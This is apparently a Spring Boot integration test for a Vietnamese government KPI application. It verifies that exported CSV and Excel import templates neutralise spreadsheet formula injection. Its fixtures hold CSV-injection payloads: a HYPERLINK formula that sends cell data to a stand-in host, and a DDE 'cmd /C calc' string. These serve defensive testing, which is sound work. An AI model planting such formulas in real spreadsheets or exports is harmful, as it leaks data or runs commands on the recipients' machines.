package vn.gov.sokhcn.kpi.kpi.imports;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.put;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.web.servlet.MockMvc;

/**
 * Text that a spreadsheet would run as a formula (CSV injection), stored through the API, leaves the
 * CSV template neutralised with an apostrophe and the workbook template as a text cell; numbers stay
 * numbers, and the downloaded CSV imports back to exactly what was stored.
 */
@SpringBootTest(properties = ImportTests.CONTEXT)
@AutoConfigureMockMvc
class ImportTemplateFormulaTest {
    static final String UNIT_NAME = "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào đây\")";
    static final String SOURCE = "@SUM(1+1)*cmd|' /C calc'!A0";
    static final String NOTE = "+1+2";

    @Autowired
    MockMvc mvc;
    @Autowired
    JdbcTemplate jdbc;
    ImportFixture fixture;

    @BeforeEach
    void hostileTextStoredThroughTheApi() throws Exception {
        fixture = new ImportFixture(jdbc);
        fixture.reset();
        mvc.perform(put("/api/units/PKH").with(httpBasic("hr", "demo")).contentType(MediaType.APPLICATION_JSON)
                        .content("{\"code\":\"PKH\",\"name\":" + quoted(UNIT_NAME) + ",\"sortOrder\":1}"))
                .andExpect(status().isOk());
        measure("-5");
    }

    /** The API takes a negative actual value (the import does not), which shows how a negative number is written. */
    private void measure(String actual) throws Exception {
        Object assignment = fixture.assignment("PKH", "TTHC_DUNG_HAN").get("ID");
        mvc.perform(put("/api/assignments/{id}/measurement", assignment).with(httpBasic("hr", "demo"))
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"actual\":" + actual + ",\"source\":" + quoted(SOURCE) + ",\"evidenceNote\":"
                                + quoted(NOTE) + "}"))
                .andExpect(status().isOk());
    }

    @Test
    void shouldPrefixTextCellsThatStartLikeAFormulaWithAnApostropheAndLeaveNegativeNumbersAsNumbers() throws Exception {
        List<CSVRecord> records = csv(ImportTests.template(mvc, "csv"));

        CSVRecord pkh = records.get(1);
        assertThat(pkh.get(ImportColumn.UNIT_CODE.ordinal())).isEqualTo("PKH");
        assertThat(pkh.get(ImportColumn.HOLDER_NAME.ordinal())).isEqualTo("'" + UNIT_NAME);
        assertThat(pkh.get(ImportColumn.ACTUAL_VALUE.ordinal())).isEqualTo("-5");
        assertThat(pkh.get(ImportColumn.SOURCE.ordinal())).isEqualTo("'" + SOURCE);
        assertThat(pkh.get(ImportColumn.EVIDENCE_NOTE.ordinal())).isEqualTo("'" + NOTE);
        assertThat(records.get(3).get(ImportColumn.HOLDER_UNIT.ordinal())).isEqualTo("'" + UNIT_NAME);
        assertThat(records.get(3).get(ImportColumn.HOLDER_NAME.ordinal())).isEqualTo("Nguyễn Văn An");
    }

    @Test
    void shouldImportTheDownloadedCsvBackToExactlyTheStoredText() throws Exception {
        measure("12");
        ImportTests.upload(mvc, "mau.csv", ImportTests.template(mvc, "csv")).andExpect(status().isOk());

        assertThat(fixture.measurement("PKH", "TTHC_DUNG_HAN"))
                .containsEntry("ACTUAL_VALUE", new BigDecimal("12.0000"))
                .containsEntry("SOURCE", SOURCE)
                .containsEntry("EVIDENCE_NOTE", NOTE);
        assertThat(jdbc.queryForObject("SELECT name FROM units WHERE code = 'PKH'", String.class)).isEqualTo(UNIT_NAME);
    }

    @Test
    void shouldWriteFormulaLikeTextIntoTheWorkbookAsTextNotAsAFormula() throws Exception {
        try (XSSFWorkbook workbook = ImportTests.workbook(ImportTests.template(mvc, "xlsx"))) {
            Cell name = workbook.getSheet("Nhập liệu").getRow(1).getCell(ImportColumn.HOLDER_NAME.ordinal());
            Cell source = workbook.getSheet("Nhập liệu").getRow(1).getCell(ImportColumn.SOURCE.ordinal());
            assertThat(name.getCellType()).isEqualTo(CellType.STRING);
            assertThat(name.getStringCellValue()).isEqualTo(UNIT_NAME);
            assertThat(source.getCellType()).isEqualTo(CellType.STRING);
            assertThat(source.getStringCellValue()).isEqualTo(SOURCE);
        }
    }

    private static List<CSVRecord> csv(byte[] bytes) throws Exception {
        String text = new String(bytes, StandardCharsets.UTF_8).substring(1);
        try (CSVParser parser = CSVParser.parse(new StringReader(text), CSVFormat.EXCEL)) {
            return parser.getRecords();
        }
    }

    private static String quoted(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }
}
